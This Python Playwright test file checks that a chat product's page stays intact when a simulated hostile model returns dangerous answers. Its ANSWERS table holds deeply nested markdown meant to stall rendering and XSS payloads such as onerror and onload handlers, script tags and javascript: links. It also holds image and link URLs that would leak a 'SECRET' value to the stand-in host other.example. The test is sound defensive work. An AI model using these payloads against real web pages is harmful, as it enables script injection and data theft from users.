"""S7: a model that writes against the page finds it alive, and nothing leaves it or runs in it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import expect

from assistants.output.no_answer import NOT_THERE
from tests.journeys.conftest import Visit
from tests.servers.model_server import ModelServer
from tests.servers.product import Product, running

AWAY = "http://other.example"
HARMLESS = "Kolleg:innen take it once daily, std::optional [1]."
ANSWERS = {
    "quotes": ">" * 10_000 + " deep [1]",
    "spaced quotes": "> " * 10_000 + "deep",
    "stars": "*" * 20_000 + "a" + "*" * 20_000,
    "lists": "1. " * 10_000 + "deep",
    "brackets": "[" * 20_000 + "a" + "](" * 20_000,
    "closing brackets": "a] " * 20_000,
    "cells": "|a|b|\n|-|-|\n" + "|a|b|\n" * 10_000,
    "boxes": ":::note\n" * 10_000,
    "markers": "The recommended dose is 30 mg once daily. " + "[1] " * 20_000,
    "images": f"![x]({AWAY}/inline?d=SECRET) ![y][ref] ![ref]\n\n[ref]: {AWAY}/reference\n\n"
    f"!\n[z]({AWAY}/apart) ![w](<{AWAY}/angle>) ::img{{src={AWAY}/directive}}",
    "HTML": f"<img src={AWAY}/img onerror=hurt()><svg onload=hurt()><iframe src={AWAY}/frame>"
    f"</iframe><link rel=stylesheet href={AWAY}/css><style>@import '{AWAY}/import';</style>"
    f"<meta http-equiv=refresh content='0;url={AWAY}/meta'><base href={AWAY}>"
    "<form action=/sign-out method=post><input autofocus onfocus=hurt()>",
    "script": f"<script>hurt()</script><script src={AWAY}/script></script>\n\n"
    "```html\n<script>hurt()</script>\n```",
    "links": f"[a]({AWAY}/link) [b][ref] [c](javascript:hurt()) [d](data:text/html,hurt())\n\n"
    f"[ref]: {AWAY}/reference\n\n<a href={AWAY}/a>e</a> [1](/sign-out) :a[f]{{href={AWAY}/f}}",
    "autolinks": f"<{AWAY}/auto> <javascript:hurt()> <mail@other.example>",
    "bare addresses": f"{AWAY}/bare?d=SECRET www.other.example/www mail@other.example "
    f"https://other.example/tls **{AWAY}/bold** | {AWAY}/cell",
}
TOGETHER = [tuple(ANSWERS)[first : first + 4] for first in range(0, len(ANSWERS), 4)]
_HURT = "(() => { window.hurts = 0; window.hurt = () => { window.hurts += 1; }; })()"
_LINKS = "[data-step-type] a[href]:not([href^='/chat/cite/'], .almanac-footer a)"
_LOADING = "[data-step-type] :is(img[src^='http'], iframe, script, style, link, form, object, base)"


@dataclass(slots=True)
class Hostile:
    """A model that writes ``answer``."""

    answer: str = ""

    def reply(self, request: dict[str, Any]) -> str:
        """What the model server, which runs in a thread of this process, writes next.

        A question that it is to make stand alone it leaves as it is.
        """
        _, follows, question = request["messages"][-1]["content"].rpartition("Last question: ")
        return question if follows else self.answer


Opponents = tuple[Hostile, Product]


@pytest.fixture(scope="module")
def opponents(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Opponents]:
    folder = tmp_path_factory.mktemp("hostile")
    hostile = Hostile()
    with ModelServer(reply=hostile.reply).in_thread() as model:
        route = {"kind": "openai", "base_url": model.base_url, "model": "steady"}
        file = folder / "gateway.yaml"
        file.write_text(json.dumps({"routes": {"bad": route}, "roles": {"answer": ["bad"]}}))
        with running(folder / "var", {"ALMANAC_GATEWAY_FILE": str(file)}) as product:
            yield hostile, product


# To open a browser costs more than to ask.
@pytest.mark.timeout(300)
@pytest.mark.parametrize("names", TOGETHER, ids=", ".join)
def test_s7_the_page_outlives_hostile_answers(
    visit: Visit, opponents: Opponents, names: tuple[str, ...]
) -> None:
    hostile, product = opponents
    alice = visit("Alice", to=product, own=True)
    page = alice.page
    # A page full of such answers is slow where others have the processor, too; it has to live.
    patient_ms = 60_000
    page.evaluate(_HURT)
    opened: list[str] = []
    page.context.on("page", lambda other: opened.append(other.url))
    page.on("dialog", lambda dialog: opened.append(dialog.message))

    def unharmed() -> None:
        # Also what the mouse could reach: every word that looks like a link.
        for link in page.locator(".ai-message").last.locator("a:not([href^='/chat/'])").all():
            link.click(modifiers=["Control"], force=True)
            link.click(force=True)
        expect(page.locator(_LINKS)).to_have_count(0)
        expect(page.locator(_LOADING)).to_have_count(0)
        assert page.evaluate("window.hurts") == 0
        assert (alice.errors, alice.strays, opened) == ([], [], [])
        assert page.url.startswith(f"{product.url}/chat/thread/")

    for name in names:
        hostile.answer = ANSWERS[name]
        alice.ask("What is the usual dose of Qavoretin?", within_s=patient_ms / 1000)
        unharmed()
    page.add_init_script(_HURT)
    page.reload()
    expect(page.locator(".almanac-footer")).to_have_count(len(names), timeout=patient_ms)
    unharmed()

    hostile.answer = HARMLESS
    alice.ask("How is Qavoretin stored?", within_s=patient_ms / 1000)
    expect(alice.citations().last).to_have_text("1")
    expect(page.locator(".ai-message").last).to_contain_text("Kolleg:innen take it")


def test_s7_the_address_of_somebody_who_can_help_stays_a_link(
    visit: Visit, opponents: Opponents
) -> None:
    hostile, product = opponents
    hostile.answer = NOT_THERE
    alice = visit("Alice", to=product)

    alice.ask("Who won the football world cup in 1954?")

    link = alice.page.locator(".almanac-no").get_by_role("link", name="medinfo@cryodyne.example")
    expect(link).to_have_attribute("href", "mailto:medinfo@cryodyne.example")
    alice.page.reload()
    expect(link).to_have_attribute("href", "mailto:medinfo@cryodyne.example")
